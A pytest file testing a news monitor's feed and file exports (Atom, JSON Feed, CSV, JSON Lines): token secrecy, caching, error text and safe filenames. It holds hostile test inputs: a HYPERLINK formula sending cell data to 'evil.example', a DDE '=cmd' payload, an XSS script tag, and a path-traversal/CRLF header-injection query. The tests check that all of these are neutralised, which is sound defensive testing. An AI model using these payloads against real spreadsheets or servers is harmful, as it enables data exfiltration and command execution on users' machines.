"""Feeds and files of every filter: read back by others, whatever the headlines hold; the token stays where it was."""

import csv
import io
import json
import re
import sqlite3
import xml.etree.ElementTree as ET
from contextlib import closing

import feedparser
import pytest
from web_house import HOSTILE, NEWS, NOW, PASSWORD, News, house

from monitor.formats import COLUMNS, reviewed_json
from monitor.model import ApiToken, HitFilter, Judgement, Target

SECRET = "feed-reader-token-0123456789"
TOKENS = (ApiToken("reader", SECRET), ApiToken("bot", "review-token-0123456789", ("review",)))
BEARER = {"authorization": f"Bearer {SECRET}"}
NASTY = (
    '=HYPERLINK("http://evil.example/"&A1)',
    "＝1+1 ]]> <![CDATA[ &amp; </title>",
    "\u200b@SUM(1)\u202e",
    "<script>alert(1)</script> \x00\x08\x1b[31m \ufffe",
    "-1\"'\r\n,;|",
)
NEWS_ = (
    *NEWS,
    *HOSTILE,
    *(News("Tagesschau", "de", f"{title} {n}", title, minutes=600 + n) for n, title in enumerate(NASTY)),
)
FORMATS = ("/hits.atom", "/hits.json", "/hits.csv", "/hits.jsonl")


@pytest.fixture(scope="module")
def seen(tmp_path_factory):
    """A server whose tests only read."""
    with house(tmp_path_factory.mktemp("feeds"), NEWS_, password=PASSWORD, tokens=TOKENS) as running:
        everything = [Target(hit.id) for hit in running.review.hits(HitFilter(source="Tagesschau", limit=None))]
        judged = Judgement("starred", note='=cmd|" /C calc"!A0', tags=("=tag", "two words"))
        running.review.decisions.decide(everything, judged, "", NOW)
        yield running


def fetch(running, path, **headers):
    return running.get(path, headers=BEARER | headers)


@pytest.mark.fault("H10")
def test_atom_is_read_back_by_a_feed_reader_and_an_xml_parser(seen):
    answer = fetch(seen, "/hits.atom?limit=200")
    assert answer.headers["content-type"] == "application/atom+xml"
    entries = ET.fromstring(answer.content).findall("{http://www.w3.org/2005/Atom}entry")
    feed = feedparser.parse(io.BytesIO(answer.content))
    assert not feed.bozo
    stored = list(seen.review.hits(HitFilter(limit=None)))
    assert len(entries) == len(feed.entries) == len(stored) == len(NEWS_)
    assert [entry.id for entry in feed.entries] == [f"urn:ramstein-monitor:hit:{hit.id}" for hit in stored]
    assert [entry.title_detail.type for entry in feed.entries] == ["text/plain"] * len(stored)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", answer.text)
    links = [link.href for entry in feed.entries for link in entry.get("links", ())]
    assert len(links) == len(stored) - 1
    assert all(link.startswith("https://") for link in links)


@pytest.mark.fault("H10")
def test_a_json_feed_holds_the_same(seen):
    answer = fetch(seen, "/hits.json?limit=200")
    assert answer.headers["content-type"] == "application/feed+json"
    made = answer.json()
    assert made["version"] == "https://jsonfeed.org/version/1.1"
    assert [item["_monitor"]["id"] for item in made["items"]] == [h.id for h in seen.review.hits(HitFilter(limit=None))]
    assert all(item["content_text"] for item in made["items"])
    assert not any(item.get("url", "https:").startswith("javascript") for item in made["items"])


@pytest.mark.fault("H7")
def test_no_cell_of_a_csv_file_is_a_formula(seen):
    answer = fetch(seen, "/hits.csv")
    rows = list(csv.reader(io.StringIO(answer.content.decode(), newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == len(NEWS_) + 1
    for cell in (cell for row in rows for cell in row):
        assert not re.match("[\\s\u200b-\u200f\u202a-\u202e\ufeff]*[=+@＝＋－＠-]", cell), cell
    noted = [row for row in rows[1:] if row[-1]]
    assert {row[-1] for row in noted} == {'\'=cmd|" /C calc"!A0'}
    assert {row[-2] for row in noted} == {"'=tag, two words"}


def test_a_csv_file_for_excel_begins_with_its_mark(seen):
    assert fetch(seen, "/hits.csv?bom=1").content.startswith(b'\xef\xbb\xbf"id","url"')
    assert fetch(seen, "/hits.csv").content.startswith(b'"id","url"')


def test_json_lines_are_the_hits_as_they_are(seen):
    rows = [json.loads(line) for line in fetch(seen, "/hits.jsonl?source=Tagesschau").text.splitlines()]
    wanted = HitFilter(source="Tagesschau", limit=None)
    assert rows == [reviewed_json(hit) for hit in seen.review.hits(wanted)]
    assert rows[0]["tags"] == ["=tag", "two words"]


@pytest.mark.fault("H8")
@pytest.mark.parametrize("path", ["/hits.csv", "/hits.jsonl"])
def test_a_file_has_a_plain_name(seen, path):
    said = fetch(seen, f"{path}?topic=../../etc/passwd%22%0d%0ax:%20y").headers["content-disposition"]
    assert said == f'attachment; filename="hits-20260212-1340.{path.rpartition(".")[2]}"'


@pytest.mark.parametrize("path", FORMATS)
@pytest.mark.parametrize("query", ["language=uk", "q=РАМШТАЙН", "grade=probable&topic=ukraine-aid"])
def test_the_filter_of_the_page_is_theirs(seen, path, query):
    text = fetch(seen, f"{path}?{query}").text
    written = {item.title: (item.title, item.title.replace('"', '""'), item.title.replace('"', '\\"')) for item in NEWS}
    found = [title for title, forms in written.items() if any(form in text for form in forms)]
    assert len(found) == 1


@pytest.mark.parametrize("path", FORMATS)
def test_a_reader_without_headers_shows_its_token_in_the_address(seen, path):
    answer = seen.get(f"{path}?language=uk&token={SECRET}")
    assert answer.status_code == 200
    assert SECRET not in answer.text
    assert SECRET not in str(answer.headers)
    assert answer.headers["referrer-policy"] == "no-referrer"


@pytest.mark.parametrize("path", FORMATS)
@pytest.mark.parametrize("query", ["", "?token=", "?token=wrong", f"?token={'x' * 5000}"])
def test_nobody_gets_one_without_a_login(seen, path, query):
    assert seen.get(f"{path}{query}").status_code == 401


def test_a_token_in_an_address_opens_nothing_else(seen):
    for path in ("/api/v1/hits", "/api/v1/openapi.json", "/hits/1", "/"):
        assert seen.get(f"{path}?token={SECRET}").status_code == 401


@pytest.mark.fault("H8")
@pytest.mark.parametrize(
    ("path", "words"),
    [
        ("/hits.atom?limit=201", "limit: It should be less than or equal to 200."),
        ("/hits.json?limit=-1", "limit: It should be greater than or equal to 1."),
        ("/hits.csv?limit=5", "There is no limit here; known are"),
        ("/hits.csv?bom=perhaps", "bom: "),
        ("/hits.jsonl?since=soon", "since is a span"),
        ("/hits.atom?near=1", "There is no near here; known are"),
    ],
)
def test_what_cannot_be_asked_is_refused_in_words(seen, path, words):
    answer = fetch(seen, path)
    assert (answer.status_code, answer.headers["content-type"]) == (422, "application/problem+json")
    assert answer.json()["detail"].startswith(words)


def test_a_feed_says_where_it_is_without_the_token(seen):
    text = seen.get(f"/hits.atom?state=new&language=uk&token={SECRET}").text
    feed = feedparser.parse(io.BytesIO(text.encode())).feed
    links = {link.rel: link.href for link in feed.links}
    assert links == {
        "self": f"{seen.url}/hits.atom?language=uk&state=new",
        "alternate": f"{seen.url}/?language=uk&state=new",
    }
    assert feed.title == "Ramstein monitor: uk · new"


@pytest.mark.parametrize("path", ["/hits.atom", "/hits.json"])
def test_what_a_reader_has_already_is_not_sent_again(seen, path):
    first = fetch(seen, path)
    assert first.headers["cache-control"] == "private, no-cache"
    tag, changed = first.headers["etag"], first.headers["last-modified"]
    for headers in (
        {"if-none-match": tag},
        {"if-none-match": f'"other", W/{tag}'},
        {"if-modified-since": changed},
        {"if-none-match": tag, "if-modified-since": "Thu, 01 Jan 1970 00:00:00 GMT"},
    ):
        again = fetch(seen, path, **headers)
        assert (again.status_code, again.content, again.headers["etag"]) == (304, b"", tag)
    for headers in ({"if-none-match": '"other"', "if-modified-since": changed}, {"if-modified-since": "yesterday"}):
        assert fetch(seen, path, **headers).status_code == 200


def test_a_file_holds_every_hit_once_however_many(tmp_path):
    with house(tmp_path, NEWS[:1]) as running:
        with closing(sqlite3.connect(tmp_path / "monitor.db")) as connection, connection:
            names = [row[1] for row in connection.execute("PRAGMA table_info(hit)") if row[1] not in {"id", "topic"}]
            same = ", ".join(names)
            connection.execute(
                "WITH RECURSIVE number(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM number WHERE n < 450)"
                f" INSERT INTO hit (topic, {same}) SELECT 'topic ' || n, {same} FROM hit, number WHERE hit.id = 1"
            )
        rows = [json.loads(line)["id"] for line in running.get("/hits.jsonl").text.splitlines()]
    assert rows == list(range(451, 0, -1))


def test_a_feed_without_hits_is_one_too(seen):
    feed = feedparser.parse(io.BytesIO(fetch(seen, "/hits.atom?language=xx").content))
    assert (feed.bozo, feed.entries, feed.feed.updated) == (False, [], "2020-01-01T00:00:00Z")
    assert fetch(seen, "/hits.json?language=xx").json()["items"] == []


def test_the_address_is_the_one_that_readers_use(tmp_path):
    with house(tmp_path, NEWS, root="/monitor", public="https://desk.example/monitor") as running:
        made = running.get("/monitor/hits.json?language=uk").json()
    assert made["feed_url"] == "https://desk.example/monitor/hits.json?language=uk"
    assert made["home_page_url"] == "https://desk.example/monitor/?language=uk"
